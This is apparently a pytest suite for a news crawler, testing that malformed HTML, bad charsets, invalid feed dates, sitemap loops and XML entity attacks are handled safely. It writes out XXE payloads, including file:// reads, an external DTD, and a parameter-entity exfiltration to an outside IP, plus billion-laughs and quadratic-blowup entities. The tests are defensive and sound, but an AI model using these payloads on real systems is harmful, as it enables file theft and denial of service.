"""Bad content, end to end (HTTP -> Scrapy -> extraction workers -> store): nothing crashes,
nothing readable is lost, every refusal is counted with a clear reason.

Cases: malformed HTML, a page with no text, an article of 200,000 words; cp1251, EUC-KR
and Shift_JIS pages with and without a declared charset, latin-1 bytes declared as UTF-8;
RSS, Atom and sitemaps with invalid dates; feeds and sitemaps that are not XML; sitemaps
with external entities (file, parameter entity, external DTD), a billion-laughs and a
quadratic-blowup entity; a sitemap index that lists itself, and two that list each other.

A tiny stdlib server on 127.0.0.1 (port 0) serves exactly these documents; one
`newswatch crawl` runs every case as its own source. The pure parsers are exercised
directly too (test_discovery and test_extract_* cover their everyday cases).
"""

from __future__ import annotations

import json
import random
import sqlite3
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import config_text, run_newswatch
from routeserver import RouteServer

from crawler.discovery import DiscoveryError, parse_document
from extract import extract_page
from fixturesite.encodings import load_encoding_pages
from newswatch.fixtures import FixtureSites

BASES = {"m31": "http://127.0.0.1:1", "westjournal": "http://127.0.0.1:2",
         "analysis": "http://127.0.0.1:3",
         "koreanews": "http://127.0.0.1:4", "rusnews": "http://127.0.0.1:5"}
ARTICLES = ["/analysis/why-central-banks-cut-slowly.html",
            "/analysis/container-freight-rates-and-prices.html",
            "/analysis/firm-friendship-pyongyang-moscow-relations.html",
            "/analysis/what-kim-jong-un-gains-from-sending-troops-to-russia.html",
            "/analysis/cold-war-treaty-revived-north-korean-troops-in-kursk.html"]
SECRET = "TOP-SECRET-CONTENT-VALUE"
HTML = "text/html; charset=utf-8"
XML = "application/xml"
LONG_WORDS = 200_000
LONG_TITLE = "A very long read"
LATIN1_TEXT = ("Le café de la Place Général-Leclerc à Zürich a rouvert ses portes après "
               "des années de travaux. Señor Núñez, propriétaire depuis 1987, y sert toujours "
               "son crème brûlée et ses îles flottantes à la neige.")


class Site(RouteServer):
    """The bad-content cases' documents; every request logged."""

    def article(self, path: str, index: int) -> str:
        return self.add(path, FixtureSites().render("analysis", ARTICLES[index], 0, BASES).body)


def page(title: str, paragraphs: list[str], charset: str = "utf-8") -> str:
    body = "".join(f"<p>{p}</p>" for p in paragraphs)
    return (f"<!DOCTYPE html><html lang='en'><head><meta charset='{charset}'><title>{title}"
            f"</title><meta property='og:type' content='article'></head><body><article>"
            f"<h1>{title}</h1>{body}</article></body></html>")


def long_article() -> str:
    rng = random.Random(200)
    words = ["army", "border", "treaty", "summit", "envoy", "minister", "harbour", "railway",
             "bridge", "grain", "export", "missile", "sanction", "council", "vote", "budget",
             "reform", "market", "tariff", "drought"]
    paragraphs = [" ".join(rng.choice(words) for _ in range(100)) + "."
                  for _ in range(LONG_WORDS // 100)]
    return page(LONG_TITLE, paragraphs)


MALFORMED = ("<html><head><title>Broken markup still reads</title><meta property='og:type' "
             "content='article'><body><div><article><h1>Broken markup still reads"
             "<p>The harbour authority approved the new ferry timetable on Monday after a "
             "long public consultation with island residents.<p>Crossings will run every "
             "forty minutes in summer, <b><i>twice as often as</b></i> the old schedule, and "
             "the last boat leaves at midnight.</span></td></li><p>Fares stay the same for "
             "residents \x00 until the end of next year, the authority said.<table><tr><td>"
             "<p>Unclosed cells and <a href='/x'>unclosed links <p>never end the page.")
NO_TEXT = ("<html><head><title>Gallery</title></head><body><div><img src='/a.jpg'>"
           "<img src='/b.jpg'><script>var x = 1;</script></div></body></html>")
BAD_DATES = ("yesterday", "2025-13-45", "", "0000-00-00T00:00:00Z", "99999-01-01",
             "Mon, 32 Foo 2025 25:61:00 GMT", "2025-06-01T12:00:00+25:00")


def rss(links: list[str], dates: tuple[str, ...]) -> str:
    items = "".join(f"<item><title>t</title><link>{link}</link><pubDate>{date}</pubDate>"
                    f"</item>" for link, date in zip(links, dates, strict=False))
    return f'<?xml version="1.0"?><rss version="2.0"><channel>{items}</channel></rss>'


def atom(links: list[str], dates: tuple[str, ...]) -> str:
    entries = "".join(f'<entry><link href="{link}"/><updated>{date}</updated></entry>'
                      for link, date in zip(links, dates, strict=False))
    return f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">{entries}</feed>'


def urlset(links: list[str], dates: tuple[str, ...] = ()) -> str:
    dates = dates or ("",) * len(links)
    entries = "".join(f"<url><loc>{link}</loc><lastmod>{date}</lastmod></url>"
                      for link, date in zip(links, dates, strict=False))
    return ('<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
            f"{entries}</urlset>")


def index(*links: str) -> str:
    entries = "".join(f"<sitemap><loc>{link}</loc></sitemap>" for link in links)
    return ('<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/'
            f'sitemap/0.9">{entries}</sitemapindex>')


def laughs(levels: int = 10) -> str:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels))
    return f'<!DOCTYPE urlset [<!ENTITY l0 "lol">{entities}]>'


def quadratic() -> str:
    # one 50 kB entity referenced 50,000 times: 2.5 GB if a parser expanded it
    return f'<!DOCTYPE urlset [<!ENTITY a "{"a" * 50_000}">]>'


def serve_cases(site: Site, secret: Path) -> dict[str, dict[str, Any]]:
    """Every case's documents; returns the config's sources."""
    latin1 = page("Café society", [LATIN1_TEXT, LATIN1_TEXT.upper()]).encode("latin-1")
    charsets = [site.add(spec.path, FixtureSites().render("analysis", spec.path, 0, BASES).body,
                         HTML if spec.charset else "text/html")
                for spec in load_encoding_pages()]
    charsets.append(site.add("/latin1-declared-utf8.html", latin1, HTML))
    bad = [site.article(f"/dated/{i}/", i % len(ARTICLES)) for i in range(len(BAD_DATES))]
    sm = [site.article(f"/sm/{i}/", i) for i in range(2)]
    xxe_doctype = (f'<!DOCTYPE urlset SYSTEM "{site.url("/evil.dtd")}" ['
                   f'<!ENTITY xxe SYSTEM "file://{secret}">'
                   f'<!ENTITY % pe SYSTEM "{site.url("/param-entity")}"> %pe;]>')
    xxe = urlset([site.url("/&xxe;/"), sm[0]]).replace("?>", "?>" + xxe_doctype, 1)
    bomb = urlset([sm[1], "&l9;"]).replace("?>", "?>" + laughs(), 1)
    blowup = urlset([sm[1], "&a;" * 50_000]).replace("?>", "?>" + quadratic(), 1)
    loop = [site.article(f"/loop/{i}/", i) for i in range(2)]
    site.add("/loop-b.xml", index(site.url("/loop-a.xml"), site.url("/loop-articles.xml")), XML)
    site.add("/loop-articles.xml", urlset(loop), XML)
    return {
        "charsets": {"urls": charsets},
        "markup": {"urls": [site.add("/malformed/", MALFORMED), site.add("/no-text/", NO_TEXT),
                            site.add("/long/", long_article())]},
        "dates": {"feed": [site.add("/dates.rss", rss(bad[:4], BAD_DATES[:4]), XML),
                           site.add("/dates.atom", atom(bad[4:], BAD_DATES[4:]), XML)],
                  "sitemap": [site.add("/dates.xml", urlset(bad, BAD_DATES), XML)]},
        "notxml": {"feed": [site.add("/feed-html/", "<html><body><p>We moved!</p></body></html>"),
                            site.add("/feed.json", '{"items": []}', "application/json")],
                   "sitemap": [site.add("/sitemap.txt", "http://x.test/a/\nhttp://x.test/b/\n",
                                        "text/plain"),
                               site.add("/binary.xml", bytes(range(256)) * 40, XML)]},
        "xxe": {"sitemap": [site.add("/xxe.xml", xxe, XML), site.add("/bomb.xml", bomb, XML),
                            site.add("/blowup.xml", blowup, XML)]},
        "selfindex": {"sitemap": [
            site.add("/self-index.xml", index(site.url("/self-index.xml"),
                                              site.url("/loop-a.xml")), XML),
            site.add("/loop-a.xml", index(site.url("/loop-b.xml")), XML)]},
    }


@dataclass
class Crawl:
    site: Site
    db: Path
    summary: dict[str, dict[str, Any]]
    seconds: float


@pytest.fixture(scope="module")
def crawl(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Crawl]:
    tmp = tmp_path_factory.mktemp("faults-content")
    secret = tmp / "secret.txt"
    secret.write_text(SECRET)
    with Site().running() as site:
        sources = serve_cases(site, secret)
        config = tmp / "newswatch.toml"
        config.write_text(config_text(sources, topics={}))
        started = time.monotonic()
        proc = run_newswatch(config, "crawl", "--json", timeout=180)
        seconds = time.monotonic() - started
        assert proc.returncode == 0, proc.stderr[-3000:]
        yield Crawl(site, tmp / "data" / "newswatch.db", json.loads(proc.stdout), seconds)


def query(db: Path, sql: str, *args: Any) -> list[tuple[Any, ...]]:
    con = sqlite3.connect(db)
    try:
        return con.execute(sql, args).fetchall()
    finally:
        con.close()


def stored_text(db: Path, url: str) -> str:
    rows = query(db, "SELECT a.text FROM pages p JOIN articles a ON a.id = p.article_id"
                     " WHERE p.url = ?", url)
    assert rows, f"{url} was not stored as an article"
    return str(rows[0][0])


def article_urls(db: Path, prefix: str) -> dict[str, int | None]:
    return dict(query(db, "SELECT url, article_id FROM pages WHERE url LIKE ?", prefix + "%"))


def test_legacy_charsets_and_latin1_declared_utf8_are_read_correctly(crawl: Crawl) -> None:
    counts = crawl.summary["charsets"]
    assert (counts["errors"], counts["new"] + counts["duplicates"]) == (0, 7)
    for spec in load_encoding_pages():
        text = stored_text(crawl.db, crawl.site.url(spec.path))
        for paragraph in spec.paragraphs:
            assert paragraph in text, (spec.path, paragraph[:40])
    text = stored_text(crawl.db, crawl.site.url("/latin1-declared-utf8.html"))
    assert LATIN1_TEXT in text and "\ufffd" not in text


def test_malformed_html_is_read_and_a_page_without_text_is_refused(crawl: Crawl) -> None:
    counts = crawl.summary["markup"]
    assert (counts["errors"], counts["not-an-article"]) == (0, 1)
    text = stored_text(crawl.db, crawl.site.url("/malformed/"))
    for words in ("approved the new ferry timetable", "twice as often as",
                  "until the end of next year", "never end the page"):
        assert words in text
    assert "\x00" not in text
    (reason, article_id), = query(crawl.db, "SELECT reason, article_id FROM pages WHERE url = ?",
                                  crawl.site.url("/no-text/"))
    assert article_id is None and reason == "too little text (0 words, in both trafilatura modes)"


def test_article_of_200000_words_is_stored_whole_and_searchable(crawl: Crawl) -> None:
    text = stored_text(crawl.db, crawl.site.url("/long/"))
    # every paragraph kept; the <h1> is the record's title, not the text's first line
    assert len(text.split()) == LONG_WORDS
    assert text.count("\n\n") == LONG_WORDS // 100 - 1
    hits = query(crawl.db, "SELECT count(*) FROM articles_fts WHERE articles_fts MATCH"
                           " 'tariff AND drought'")
    assert hits[0][0] >= 1


def test_invalid_dates_in_feeds_and_sitemaps_lose_no_link(crawl: Crawl) -> None:
    counts = crawl.summary["dates"]
    assert (counts["status"], counts["errors"]) == ("ok", 0)
    assert counts["discovered"] == len(BAD_DATES)
    stored = article_urls(crawl.db, crawl.site.url("/dated/"))
    assert len(stored) == len(BAD_DATES) and None not in stored.values()


def test_feeds_and_sitemaps_that_are_not_xml_are_refused_with_a_reason(crawl: Crawl) -> None:
    counts = crawl.summary["notxml"]
    assert (counts["status"], counts["errors/malformed-feed"]) == ("failed", 4)
    reasons = dict(query(crawl.db, "SELECT url, reason FROM pages WHERE source = 'notxml'"))
    assert reasons[crawl.site.url("/feed-html/")] == (
        "malformed-feed: not a feed or sitemap (root element <html>)")
    for path in ("/feed.json", "/sitemap.txt", "/binary.xml"):
        assert reasons[crawl.site.url(path)].startswith("malformed-feed: malformed XML: ")


def test_xml_entities_read_no_file_fetch_nothing_and_do_not_expand(crawl: Crawl) -> None:
    counts = crawl.summary["xxe"]
    assert crawl.seconds < 90
    assert counts["recovered-xml"] == 2  # the bombs: what came before them is kept
    assert counts["errors"] == 0
    assert "/evil.dtd" not in crawl.site.log and "/param-entity" not in crawl.site.log
    # the link with the entity in it is dropped whole, not fetched up to the entity
    assert not [p for p in crawl.site.log if SECRET in p or p in ("/", "/&xxe;/")]
    stored = article_urls(crawl.db, crawl.site.url("/sm/"))
    assert len(stored) == 2 and None not in stored.values()
    everything = json.dumps(query(crawl.db, "SELECT * FROM pages")) + json.dumps(
        query(crawl.db, "SELECT url, title, text FROM articles"))
    assert SECRET not in everything


def test_sitemap_indexes_that_list_themselves_are_read_once(crawl: Crawl) -> None:
    counts = crawl.summary["selfindex"]
    assert (counts["status"], counts["errors"]) == ("ok", 0)
    for path in ("/self-index.xml", "/loop-a.xml", "/loop-b.xml", "/loop-articles.xml"):
        assert crawl.site.log.count(path) == 1, path
    stored = article_urls(crawl.db, crawl.site.url("/loop/"))
    assert len(stored) == 2 and None not in stored.values()


# -- the parsers alone ---------------------------------------------------------------------

def test_quadratic_blowup_and_parameter_entities_are_not_expanded(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    docs = {
        "blowup": urlset(["http://a.test/1/", "&a;" * 50_000]).replace(
            "?>", "?>" + quadratic(), 1),
        "param": urlset(["http://a.test/1/"]).replace("?>", "?>" + (
            f'<!DOCTYPE urlset [<!ENTITY % file SYSTEM "file://{secret}">'
            '<!ENTITY % eval "<!ENTITY exfil SYSTEM \'http://10.255.255.1/?%file;\'>">'
            "%eval;]>"), 1),
        "laughs-first": urlset(["&l9;", "http://a.test/1/"]).replace("?>", "?>" + laughs(), 1),
    }
    for name, doc in docs.items():
        started = time.monotonic()
        try:
            found = parse_document(doc.encode(), "http://a.test/")
        except DiscoveryError as exc:
            assert "malformed" in str(exc), name
        else:
            assert [link.url for link in found.links] == ["http://a.test/1/"], name
        assert time.monotonic() - started < 2, name
        assert SECRET not in repr(locals().get("found")), name


@pytest.mark.parametrize("body", [
    b"", b"\x00" * 1000, b"<", b"<html", b"<<<>>>", "<p>\udcff</p>".encode("utf-8", "replace"),
    b"<html><body>" + b"<div>" * 5000 + b"deep" + b"</div>" * 5000 + b"</body></html>",
    b"<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    b"<html><body><article><p>&x;</p></article></body></html>",
])
def test_extraction_of_hostile_html_returns_a_reason_and_reads_no_file(body: bytes) -> None:
    result = extract_page(body, "http://a.test/x/", HTML)
    assert result.article is None and result.reason
    assert "root:" not in repr(result)  # /etc/passwd's first line


def test_news_sitemap_with_undeclared_namespace_prefix_is_read() -> None:
    # Found by test_fuzz: recovery mode keeps "news:news" as a tag name, which
    # etree.QName rejected with a ValueError that crashed the spider's callback.
    doc = (b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
           b"<url><loc>http://a.test/x/</loc><news:news><news:publication_date>2025-06-01"
           b"</news:publication_date></news:news></url></urlset>")
    found = parse_document(doc, "http://a.test/")
    assert found.recovered and [link.url for link in found.links] == ["http://a.test/x/"]
    assert found.links[0].lastmod is not None  # the news date is still read
